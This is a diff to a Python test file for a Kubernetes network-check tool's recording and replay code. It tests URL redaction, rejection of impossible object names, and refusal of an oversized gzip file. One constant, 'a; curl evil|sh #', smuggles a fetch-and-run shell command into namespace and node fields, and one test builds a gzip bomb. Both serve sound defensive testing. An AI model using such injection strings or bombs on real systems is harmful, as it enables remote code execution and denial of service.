@@ -11,10 +11,10 @@ import pytest
 
 from kubectl_netcheck.cluster.base import Admission, Outcome
 from kubectl_netcheck.cluster.recorder import Recorder
-from kubectl_netcheck.cluster.recording import Meta, load
+from kubectl_netcheck.cluster.recording import Meta, Recording, load, save
 from kubectl_netcheck.cluster.replay import Replay
 from kubectl_netcheck.model.errors import BadRecording
-from kubectl_netcheck.model.inventory import Inventory, Node
+from kubectl_netcheck.model.inventory import DnsService, Inventory, Node, RunningPod
 from kubectl_netcheck.model.plan import GuestRequest, PodRequest, ServiceRequest, Started
 
 META = Meta("pair", {"nodes": ["a", "b"]}, nonce="n0nce", moment="2026-01-01T00:00:00Z")
@@ -30,7 +30,7 @@ class Scripted:
         self.count = 0
 
     def inventory(self, nodes: Sequence[str], _wanted: object = ()) -> Inventory:
-        objects = {"nodes": ({"metadata": {"name": "ä"}, "x": [1, None, True, 2.5]},)}
+        objects = {"nodes": ({"metadata": {"name": "a"}, "x": ["ä", None, True, 2.5]},)}
         return Inventory("team", tuple(Node(n) for n in nodes), objects=objects, denied={"e": "f"})
 
     def admit(self) -> Admission:
@@ -121,11 +121,82 @@ def test_an_interrupted_run_can_be_saved_and_says_what_it_lacks(tmp_path: Path) 
         Replay.open(tmp_path / "run.json").inventory(["a"])
 
 
+class Talkative(Scripted):
+    """A cluster that names its server in whatever it says."""
+
+    SAID = 'Post "https://api.prod.example:6443/x": dial tcp 192.0.2.7:6443: i/o timeout'
+    KEPT = 'Post "…": dial tcp 192.0.2.7:6443: i/o timeout'
+
+    def inventory(self, nodes: Sequence[str], _wanted: object = ()) -> Inventory:
+        return Inventory("team", denied={"events": self.SAID})
+
+    def admit(self) -> Admission:
+        return Admission({"host": self.SAID})
+
+    def start(  # type: ignore[override]
+        self, pods: Sequence[PodRequest], services: Sequence[ServiceRequest], *_: object
+    ) -> tuple[Started, ...]:
+        wanted = (*pods, *services)
+        return tuple(Started(each.key, kind="sandbox", trouble=self.SAID) for each in wanted)
+
+    def join(self, guests: Sequence[GuestRequest], seconds: float) -> tuple[Started, ...]:
+        return tuple(Started(each.key, kind="image", trouble=self.SAID) for each in guests)
+
+    def execute(self, key: str, *_: object) -> Outcome:  # type: ignore[override]
+        return Outcome("refused", detail=self.SAID)
+
+    def relay(self, key: str, program: str, seconds: float) -> Outcome:
+        return Outcome("start-error", detail=self.SAID, channel="status")
+
+
+def test_what_the_server_says_is_recorded_without_its_url(tmp_path: Path) -> None:
+    recorder = Recorder(Talkative(), META)
+    live = drive(recorder)
+    recorder.save(tmp_path / "run.json")
+    text = (tmp_path / "run.json").read_text(encoding="utf-8")
+    assert "api.prod.example" not in text
+    assert text.count(json.dumps(Talkative.KEPT, ensure_ascii=False)) == 11
+    replayed = drive(Replay.open(tmp_path / "run.json"))
+    assert replayed[: len(live)] == live  # after it, what a listener heard: here, of the replay
+
+
+HOSTILE = "a; curl evil|sh #"
+
+
+@pytest.mark.parametrize(
+    "inventory",
+    [
+        Inventory(HOSTILE),
+        Inventory("team", nodes=(Node("a"), Node(HOSTILE))),
+        Inventory("team", running=(RunningPod("shop", "web", HOSTILE, "10.0.0.1"),)),
+        Inventory("team", dns=DnsService(namespace=HOSTILE)),
+        Inventory("team", selected=(HOSTILE,)),
+    ],
+    ids=["namespace", "node", "a pod's node", "dns", "selected"],
+)
+def test_a_name_that_nothing_can_have(inventory: Inventory, tmp_path: Path) -> None:
+    save(Recording(META, inventory), tmp_path / "run.json")
+    with pytest.raises(BadRecording) as problem:
+        load(tmp_path / "run.json")
+    assert problem.value.exit_code == 2
+    assert problem.value.why == f"nothing in a cluster can be called {HOSTILE!r}"
+
+
+def test_objects_are_read_back_as_the_server_would_have_named_them(tmp_path: Path) -> None:
+    there = {"metadata": {"name": "kube-flannel-ds", "namespace": HOSTILE}, "kind": "x; y"}
+    inventory = Inventory("team", objects={"daemonsets": (there,)}, asked={"pods": (there,)})
+    save(Recording(META, inventory), tmp_path / "run.json")
+    found = load(tmp_path / "run.json").inventory
+    assert found is not None
+    kept = {"metadata": {"name": "kube-flannel-ds", "namespace": ""}, "kind": "x; y"}
+    assert (found.objects, found.asked) == ({"daemonsets": (kept,)}, {"pods": (kept,)})
+
+
 GOOD = {"kind": "Recording", "apiVersion": "netcheck/v1", "meta": {}}
 BAD = {
-    "empty": (b"", "not JSON"),
+    "empty": (b"", "it is empty"),
     "cut": (b'{"kind": "Rec', "not JSON"),
-    "report": (json.dumps({"kind": "Report"}).encode(), "no recording"),
+    "report": (json.dumps({"kind": "Report"}).encode(), "what was found"),
     "version": (json.dumps({**GOOD, "apiVersion": "netcheck/v9"}).encode(), "netcheck/v9"),
     "unknown key": (json.dumps({**GOOD, "extra": 1}).encode(), "unknown key 'extra'"),
     "type": (json.dumps({**GOOD, "calls": "7"}).encode(), "$.calls: expected int"),
@@ -151,7 +222,7 @@ def test_a_missing_file(tmp_path: Path) -> None:
 
 
 def test_a_gzip_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr("kubectl_netcheck.cluster.recording.LIMIT", 2**20)
+    monkeypatch.setattr("kubectl_netcheck.cluster.files.LIMIT", 2**20)
     path = tmp_path / "bomb.gz"
     path.write_bytes(gzip.compress(b" " * (2**20 + 1)))
     with pytest.raises(BadRecording) as problem:
